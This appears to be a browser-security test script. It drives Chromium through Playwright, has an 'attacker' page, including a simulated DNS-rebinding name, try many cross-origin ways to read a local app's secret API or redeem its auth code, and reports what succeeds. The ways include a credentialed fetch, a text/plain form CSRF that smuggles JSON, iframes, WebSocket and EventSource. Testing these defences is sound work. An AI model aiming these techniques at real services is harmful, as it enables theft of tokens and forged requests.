// Drives Chromium: opens the app, then pages of another server that try to read from it. Prints what happened as JSON.
//
//   node attack.mjs '{"chromium": PATH, "app": ADDRESS WITH CODE, "victim": URL, "evil": URL, "rebound": URL,
//                     "token": TOKEN, "code": CODE}'
import { chromium } from "../../ui/node_modules/playwright-core/index.mjs";

const options = JSON.parse(process.argv[2]);

const browser = await chromium.launch({
  executablePath: options.chromium,
  args: [
    "--no-sandbox",
    "--host-resolver-rules=MAP *.test 127.0.0.1", // what an attacker's name server says the second time
    "--disable-features=HttpsUpgrades",
  ],
});
try {
  const result = {};
  if (options.app) result.app = await openApp();
  result.elsewhere = await attack(options.evil, options.victim);
  result.otherSite = await attack(asName(options.evil), options.victim);
  result.rebound = await attack(asName(options.evil), options.rebound);
  result.reboundItself = await attack(options.rebound, options.rebound);
  console.log(JSON.stringify(result));
} finally {
  await browser.close();
}

/** The same server by a name of the attacker's. */
function asName(url) {
  return url.replace("127.0.0.1", "evil.test");
}

/** Opens the app, and returns what it shows and which rules of its policy it breaks. */
async function openApp() {
  const page = await browser.newPage();
  const problems = [];
  page.on("console", (message) => message.type() === "error" && problems.push(message.text()));
  page.on("pageerror", (error) => problems.push(String(error)));
  await page.addInitScript(() => {
    window.violations = [];
    addEventListener("securitypolicyviolation", (event) => {
      window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
    });
  });
  await page.goto(options.app);
  await page.waitForFunction(() => document.title.startsWith("done"));
  const shown = await page.evaluate(() => ({
    title: document.title,
    address: location.href,
    violations: window.violations,
    cookies: document.cookie,
  }));
  await page.close();
  return { ...shown, problems };
}

/** Opens a page of one server, has it try to read from another one, and returns what it has read. */
async function attack(from, target) {
  const context = await browser.newContext();
  const page = await context.newPage();
  const answered = [];
  context.on("response", (response) => {
    if (response.url().startsWith(target) && response.status() < 400) answered.push(response.url());
  });
  await page.goto(from);
  const read = await page.evaluate(tryAll, { target, token: options.token, code: options.code });
  await context.close();
  return { read, answered };
}

/** Runs in the attacker's page. Each way gives what could be read, or "". */
async function tryAll({ target, token, code }) {
  const authorization = { Authorization: `Bearer ${token}` };
  const secret = `${target}api/v1/secret`;
  const redemption = JSON.stringify({ code });
  const text = (response) => (response.ok ? response.text() : "");
  /** Adds an element, and waits until it has loaded or failed. */
  const load = (name, attributes, then) =>
    new Promise((resolve) => {
      const element = Object.assign(document.createElement(name), attributes);
      element.onload = () => resolve(then(element));
      element.onerror = () => resolve("");
      document.documentElement.append(element);
    });
  /** Waits for the message of a page that shows the app, which says so itself, or for the end of loading. */
  const message = (begin, ended) =>
    new Promise((resolve) => {
      addEventListener("message", (event) => typeof event.data === "string" && resolve(event.data), { once: true });
      begin();
      ended.then(() => setTimeout(() => resolve(""), 500)); // nothing comes: there is no condition to wait for
    });
  const ways = {
    fetch: () => fetch(target).then(text),
    fetchData: () => fetch(secret, { headers: authorization }).then(text),
    fetchCredentials: () => fetch(secret, { credentials: "include", headers: authorization }).then(text),
    fetchOpaque: () => fetch(secret, { mode: "no-cors" }).then(text),
    redeem: () => {
      const headers = { "Content-Type": "application/json" };
      return fetch(`${target}auth`, { method: "POST", headers, body: redemption }).then(text);
    },
    redeemSimply: () => fetch(`${target}auth`, { method: "POST", mode: "no-cors", body: redemption }).then(text),
    request: () =>
      new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.onloadend = () => resolve(request.status === 200 ? request.responseText : "");
        request.open("GET", target);
        request.send();
      }),
    beacon: () => (navigator.sendBeacon(`${target}auth`, new Blob([redemption], { type: "text/plain" })), ""),
    script: () => load("script", { src: `${target}app.js` }, () => "loaded"),
    scriptOfData: () => load("script", { src: secret }, () => "loaded"),
    style: () => load("link", { rel: "stylesheet", href: `${target}style.css` }, () => "loaded"),
    image: () => load("img", { src: `${target}image.svg` }, (image) => (image.naturalWidth ? "loaded" : "")),
    frame: () => {
      let ended;
      const end = new Promise((resolve) => (ended = resolve));
      return message(() => load("iframe", { src: target }, ended), end);
    },
    form: () => {
      const name = JSON.stringify({ code, rest: "" }).slice(0, -2); // a form can send this as text/plain: NAME=VALUE
      const form = Object.assign(document.createElement("form"), {
        method: "POST",
        action: `${target}auth`,
        enctype: "text/plain",
        target: "sink",
      });
      form.append(Object.assign(document.createElement("input"), { name, value: '"}' }));
      document.documentElement.append(form);
      return load("iframe", { name: "sink", srcdoc: "<p>" }, (frame) => {
        return new Promise((resolve) => {
          frame.onload = () => {
            let body = "";
            try {
              body = frame.contentDocument?.body?.textContent ?? "";
            } catch {
              // another origin, as it must be
            }
            resolve(body.includes("token") ? body : "");
          };
          form.submit();
        });
      });
    },
    events: () =>
      new Promise((resolve) => {
        const source = new EventSource(`${target}api/v1/events`);
        source.onmessage = (event) => (source.close(), resolve(event.data));
        source.onerror = () => (source.close(), resolve(""));
      }),
    socket: () =>
      new Promise((resolve) => {
        const socket = new WebSocket(`${target.replace("http", "ws")}api/v1/socket`);
        socket.onopen = () => resolve("open");
        socket.onerror = () => resolve("");
      }),
  };
  const read = {};
  for (const [name, way] of Object.entries(ways)) {
    try {
      read[name] = await way();
    } catch {
      read[name] = ""; // the browser, or the policy of the page, refuses it
    }
  }
  return read;
}
